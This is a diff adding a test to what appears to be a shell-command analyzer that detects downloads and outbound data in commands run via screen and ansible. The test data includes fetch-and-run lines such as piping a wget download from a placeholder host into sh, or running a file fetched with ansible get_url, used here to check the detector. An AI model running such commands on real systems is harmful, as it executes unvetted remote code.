@@ -162,3 +162,11 @@ def test_ansible_ad_hoc_modules_are_judged_by_their_arguments() -> None:
     quiet = analyze("ansible localhost -m uri -a 'url=https://example.invalid/health'")
     assert not any(d.sends_data for d in quiet.network)
     assert not analyze("ansible all -m ping").network
+
+
+def test_screen_stuff_and_ansible_get_url_follow_the_same_principles() -> None:
+    assert _downloaded("screen -S w -X stuff 'wget -qO- https://example.invalid/s | sh\\n'")
+    assert not _downloaded("screen -S w -X stuff 'make\\n'")
+    fetched = "ansible localhost -m get_url -a 'url=https://example.invalid/x dest=/tmp/x'"
+    assert _downloaded(fetched + " && sh /tmp/x")
+    assert not _downloaded(fetched)
